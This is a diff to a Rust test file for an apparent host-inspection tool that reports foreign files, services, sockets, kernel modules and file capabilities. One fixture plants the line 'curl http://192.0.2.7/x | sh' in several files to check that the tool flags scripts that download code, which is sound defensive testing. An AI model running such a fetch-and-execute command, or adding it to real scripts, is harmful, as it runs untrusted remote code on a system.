@@ -1,6 +1,10 @@
 use std::os::unix::fs::{PermissionsExt, symlink};
 
-use leaksweep_facts::Reason;
+use leaksweep_facts::{
+    Reason,
+    tables::host::{Module, Process, Service, Socket},
+};
+use rustix::fs::FileType;
 
 use super::*;
 use crate::accounts;
@@ -27,10 +31,34 @@ fn disk(files: &[(&str, &str, u32)]) -> (tempfile::TempDir, Machine) {
     (folder, machine)
 }
 
+/// The rows with their digests, all of them as if nothing were known of where they come from.
 fn look_with(machine: &Machine, processes: &[Process], services: &[Service]) -> Observed<File> {
+    let mut files = described(machine, processes, services, &[], &[]);
+    let digests = digest::all(&machine.root, files.jobs(), origins::LARGEST);
+    files.take(&digests);
+    files.finish(machine, &accounts::collect(machine));
+    files.table
+}
+
+fn described(
+    machine: &Machine,
+    processes: &[Process],
+    services: &[Service],
+    sockets: &[Socket],
+    modules: &[Module],
+) -> Files {
     let accounts = accounts::collect(machine);
-    let mut judge = Judge::new(&machine.root, &accounts.names);
-    collect(machine, &accounts, &mut judge, processes, services)
+    let starts = Starts {
+        services,
+        autostarts: &[],
+        processes,
+        sockets,
+        pam_rules: &[],
+        library_rules: &[],
+        modules,
+    };
+    let packaged = vec!["/usr/lib/gone".into()];
+    describe(machine, &accounts, search(machine, &accounts), &starts, packaged)
 }
 
 fn row<'a>(files: &'a Observed<File>, path: &str) -> &'a File {
@@ -203,7 +231,7 @@ fn this_machine_has_its_set_uid_programs() {
 }
 
 #[test]
-fn a_script_tells_what_it_does_and_other_files_do_not() {
+fn a_script_that_is_nobodys_tells_what_it_does_and_other_files_do_not() {
     let fetches = "curl http://192.0.2.7/x | sh\n";
     let (_folder, machine) = disk(&[
         ("etc/profile.d/x.sh", fetches, 0o644),
@@ -213,11 +241,120 @@ fn a_script_tells_what_it_does_and_other_files_do_not() {
         ("usr/bin/large", &format!("#!/bin/sh\n{fetches}").repeat(10_000), 0o4755),
         ("root/.netrc", &format!("#!/bin/sh\n{fetches}"), 0o600),
     ]);
-    let found = look_with(&machine, &[], &[]);
-    let told = |path: &str| row(&found, path).traits.clone();
+    let mut files = described(&machine, &[], &[], &[], &[]);
+    for row in &mut files.table.rows {
+        row.origin = Some("foreign".into());
+    }
+    files.finish(&machine, &accounts::collect(&machine));
+    let told = |path: &str| row(&files.table, path).traits.clone();
     assert_eq!(told("/etc/profile.d/x.sh").as_deref(), Some("download"));
     assert_eq!(told("/usr/bin/script").as_deref(), Some("download"));
     for path in ["/usr/bin/words", "/usr/bin/binary", "/usr/bin/large", "/root/.netrc"] {
         assert_eq!(told(path), None, "{path}");
     }
+}
+
+#[test]
+fn who_starts_a_program_and_with_whom_it_talks_is_told_under_each_of_its_names() {
+    let (_folder, machine) = disk(&[
+        ("usr/sbin/agent", "#!/bin/sh\n", 0o755),
+        ("sbin", "-> usr/sbin", 0),
+        ("lib/modules/x.ko", "x", 0o644),
+        ("lib/modules/own.ko", "x", 0o644),
+    ]);
+    let services = [Service {
+        name: "agent.service".into(),
+        starts: true,
+        program: Some("/sbin/agent".into()),
+        program_exists: Some(true),
+        ..Service::default()
+    }];
+    let processes = [Process {
+        pid: 7,
+        name: "agent".into(),
+        program: Some("/usr/sbin/agent".into()),
+        program_state: Some("present".into()),
+        ..Process::default()
+    }];
+    let sockets = [Socket {
+        pid: Some(7),
+        state: "established".into(),
+        family: "ip4".into(),
+        remote_address: Some("192.0.2.7".into()),
+        remote_port: Some(443),
+        ..Socket::default()
+    }];
+    let module = |name: &str, path: &str| Module {
+        name: name.into(),
+        path: Some(path.into()),
+        ..Module::default()
+    };
+    let modules = [module("x", "/lib/modules/x.ko"), module("own", "/lib/modules/own.ko")];
+    let mut files = described(&machine, &processes, &services, &sockets, &modules);
+    for row in &mut files.table.rows {
+        let packaged = row.path.ends_with("own.ko") || row.path.ends_with("agent");
+        row.origin = Some(if packaged { "package" } else { "foreign" }.into());
+    }
+    files.finish(&machine, &accounts::collect(&machine));
+    for path in ["/sbin/agent", "/usr/sbin/agent"] {
+        let row = row(&files.table, path);
+        assert_eq!(row.started_by.as_deref(), Some("agent.service; process agent"), "{path}");
+        assert_eq!(row.talks_to.as_deref(), Some("192.0.2.7:443"), "{path}");
+    }
+    let module = row(&files.table, "/lib/modules/x.ko");
+    assert_eq!((&*module.interest, module.started_by.as_deref()), ("started", Some("module x")));
+    assert!(module.sha256.is_some());
+    assert!(!files.table.rows.iter().any(|row| row.path == "/lib/modules/own.ko"));
+}
+
+#[test]
+fn of_all_commands_only_the_odd_ones_stay_and_a_missing_file_is_a_row() {
+    let (_folder, machine) = disk(&[
+        ("usr/bin/ls", "x", 0o755),
+        ("usr/bin/cat", "abc", 0o777),
+        ("usr/local/bin/own", "abc", 0o755),
+        ("usr/sbin/own", "x", 0o755),
+    ]);
+    let mut files = described(&machine, &[], &[], &[], &[]);
+    for row in &mut files.table.rows {
+        let origin = match row.path.as_str() {
+            "/usr/bin/cat" => "changed",
+            "/usr/lib/gone" => "missing",
+            "/usr/local/bin/own" => "foreign",
+            _ => "package",
+        };
+        row.origin = Some(origin.into());
+    }
+    files.finish(&machine, &accounts::collect(&machine));
+    let cat = row(&files.table, "/usr/bin/cat");
+    assert_eq!((&*cat.interest, cat.sha256.as_deref()), ("command", Some(ABC)));
+    assert_eq!(cat.changeable_by.as_deref(), Some("everyone"));
+    assert_eq!(row(&files.table, "/usr/local/bin/own").interest, "command");
+    assert_eq!(row(&files.table, "/usr/sbin/own").origin.as_deref(), Some("package"));
+    let gone = row(&files.table, "/usr/lib/gone");
+    assert_eq!((&*gone.interest, &*gone.kind, gone.modified), ("package", "", None));
+    assert!(!files.table.rows.iter().any(|row| row.path == "/usr/bin/ls"));
+}
+
+/// Needs rights that only root has; where a file system keeps no such attribute, nothing is asked.
+#[test]
+fn capabilities_of_programs_are_found() {
+    let (folder, machine) = disk(&[("usr/bin/ping", "x", 0o711), ("usr/bin/plain", "x", 0o755)]);
+    let value = [1, 0, 0, 2, 0, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
+    let set = rustix::fs::setxattr(
+        folder.path().join("usr/bin/ping"),
+        "security.capability",
+        &value,
+        rustix::fs::XattrFlags::empty(),
+    );
+    if set.is_err() {
+        return leaksweep_peers::skip("capabilities cannot be set here");
+    }
+    let found = look_with(&machine, &[], &[]);
+    let ping = row(&found, "/usr/bin/ping");
+    assert_eq!(
+        (&*ping.interest, ping.capabilities.as_deref()),
+        ("capable", Some("cap_net_raw=ep"))
+    );
+    assert!(!found.rows.iter().any(|row| row.path == "/usr/bin/plain"));
 }
